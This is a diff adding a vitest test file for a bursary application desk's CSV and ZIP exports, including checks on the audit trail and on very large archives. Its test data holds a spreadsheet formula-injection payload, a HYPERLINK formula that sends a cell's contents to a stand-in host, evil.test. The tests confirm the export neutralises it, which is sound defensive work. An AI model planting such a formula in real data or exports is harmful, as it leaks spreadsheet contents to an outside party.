@@ -1,0 +1,152 @@
+import { buffer } from 'node:stream/consumers'
+import { strFromU8, unzipSync } from 'fflate'
+import { afterAll, beforeAll, describe, expect, test } from 'vitest'
+import { fromBufferPromise } from 'yauzl'
+import { DOCUMENTS } from '../../../domain/documents.ts'
+import type { SubmissionSummary } from '../../../domain/submissions.ts'
+import { zipOf } from '../../../server/zip.ts'
+import { entriesOfCall } from '../audit/trail.ts'
+import { PDF, startServer, type Caller, type TestServer } from '../fixture.ts'
+import { walkTo } from '../walk.ts'
+import { idOf, ownerOf, referenceOf, seed } from './seed.ts'
+import { shortlistings } from '../../../server/database/schema/submissions.ts'
+
+/** What leaves the desk: a table for spreadsheets, and the documents in an archive. */
+
+const FORMULA = '=HYPERLINK("https://evil.test/?"&A1)'
+const MANY = 60
+
+let server: TestServer
+let chair: Caller
+let submitted: SubmissionSummary
+beforeAll(async () => {
+  server = await startServer()
+  chair = await server.holder('bursaryAdmin')
+  const applicant = await server.applicant()
+  await walkTo(applicant, 6)
+  const [first] = (await applicant.get('/api/submissions')).json<SubmissionSummary[]>()
+  if (first === undefined) throw new Error('Nothing was submitted')
+  submitted = first
+  await seed(server.db, [
+    {
+      key: 'ODD',
+      lastName: FORMULA,
+      name: '+264',
+      course: 'Law; "Roman", and more',
+      motivation: '<p>One,</p><p>two\nthree &amp; four</p>',
+      submittedAt: '2030-02-01T08:00:00.000Z',
+    },
+    { key: 'AMD', lastName: 'Ümläut', versions: 2, submittedAt: '2030-02-02T08:00:00.000Z' },
+  ])
+  const decision = { reason: 'Strong.', decidedBy: 'chair', decidedAt: new Date(), shortlisted: true }
+  const its = { submissionId: idOf('AMD', 1), fellowshipId: 'AMD-fellowship', owner: ownerOf('AMD') }
+  await server.db.insert(shortlistings).values({ ...its, ...decision })
+  const more = Array.from({ length: MANY }, (_, index) => ({
+    key: `M${String(index).padStart(2, '0')}`,
+    institution: 'Many',
+    submittedAt: '2030-03-01T08:00:00.000Z',
+  }))
+  await seed(server.db, more)
+})
+afterAll(() => server.close())
+
+/** A table as RFC 4180 has it. */
+function cellsOf(csv: string): string[][] {
+  const rows: string[][] = [[]]
+  for (const [, end = '', quoted, plain = ''] of csv.matchAll(/(^|,|\r\n)(?:"((?:[^"]|"")*)"|([^",\r\n]*))/g)) {
+    if (end === '\r\n') rows.push([])
+    rows.at(-1)?.push(quoted === undefined ? plain : quoted.replaceAll('""', '"'))
+  }
+  return rows
+}
+
+async function tableOf(query = '') {
+  const answer = await chair.get(`/api/desk/submissions.csv${query}`)
+  const [headers = [], ...rows] = cellsOf(answer.body.replace(/\r\n$/, '').slice(1))
+  const records = rows.map((row) => Object.fromEntries(headers.map((header, index) => [header, row[index]])))
+  return { answer, headers, rows, records }
+}
+
+describe('the table', () => {
+  test('opens right in a spreadsheet: UTF-8 by its mark, one line per application, nothing taken for a formula', async () => {
+    const { answer, headers, rows, records } = await tableOf()
+    expect(answer.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]))
+    expect(answer.headers).toMatchObject({
+      'content-type': 'text/csv; charset=utf-8',
+      'content-disposition': 'attachment; filename="applications.csv"',
+    })
+    expect(rows).toHaveLength(3 + MANY)
+    expect(rows.every((row) => row.length === headers.length)).toBe(true)
+    const [odd, amended] = records
+    expect(odd).toMatchObject({
+      Reference: referenceOf('ODD'),
+      Surname: `'${FORMULA}`,
+      Name: "'+264",
+      '1st Choice': 'Law; "Roman", and more',
+      Shortlisted: '',
+      CV: 'my_cv.pdf',
+    })
+    expect(odd?.['Motivation']?.split(/\s+/)).toEqual(['One,', 'two', 'three', '&', 'four'])
+    expect(amended).toMatchObject({
+      Reference: referenceOf('AMD', 2),
+      Surname: 'Ümläut',
+      Shortlisted: 'Yes',
+      'Amended since': 'Yes',
+    })
+    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
+  })
+
+  test('has what the filter leaves, in its order, across the pages that it is read in', async () => {
+    const { records } = await tableOf('?institution=many&sort=submittedAt&order=desc')
+    const references = records.map((record) => record['Reference'])
+    expect(references).toHaveLength(MANY)
+    expect(references).toEqual([...new Set(references)].toSorted().toReversed())
+  })
+
+  test('tells the audit trail of every application in it', async () => {
+    const { answer } = await tableOf('?institution=many')
+    const told = await entriesOfCall(server.db, answer.headers['x-request-id'])
+    expect(told).toHaveLength(MANY)
+    expect(new Set(told.map(({ object }) => object)).size).toBe(MANY)
+    expect(told[0]).toMatchObject({ action: 'submission.export', outcome: 'done' })
+  })
+})
+
+describe('the archive', () => {
+  const archiveOf = async (query: string) => {
+    const answer = await chair.get(`/api/desk/documents.zip${query}`)
+    expect(answer.statusCode).toBe(200)
+    return { answer, files: unzipSync(new Uint8Array(answer.rawPayload)) }
+  }
+
+  test('has the documents in a folder per reference, as they were uploaded', async () => {
+    const { answer, files } = await archiveOf(`?text=${submitted.reference}`)
+    const names = DOCUMENTS.map(({ kind }) => `${submitted.reference}/${kind} my_${kind}.pdf`)
+    expect(Object.keys(files).toSorted()).toEqual(names.toSorted())
+    for (const content of Object.values(files)) expect(PDF.equals(content)).toBe(true)
+    const told = await entriesOfCall(server.db, answer.headers['x-request-id'])
+    expect(told.map(({ action }) => action).toSorted()).toEqual([
+      ...DOCUMENTS.map(() => 'document.view'),
+      'submission.export',
+    ])
+  })
+
+  test('says at its end what it has not, and why; the rest is there', async () => {
+    const { files } = await archiveOf(`?text=PB-2030-ODD`)
+    expect(Object.keys(files)).toEqual(['not-included.txt'])
+    const lines = strFromU8(files['not-included.txt'] ?? new Uint8Array())
+      .trim()
+      .split('\r\n')
+    expect(lines).toHaveLength(DOCUMENTS.length)
+    expect(lines[0]).toMatch(/^PB-2030-ODD1\/\w+ my_\w+\.pdf: Not found\.$/)
+  })
+
+  test('may hold more files than the first kind of ZIP archive could', async () => {
+    const count = 70_000
+    async function* files() {
+      for (let index = 0; index < count; index += 1) yield { name: `${index}`, open: () => Buffer.from('x') }
+    }
+    const archive = await fromBufferPromise(await buffer(zipOf(files())), { autoClose: false })
+    expect(archive.entryCount).toBe(count)
+  })
+})
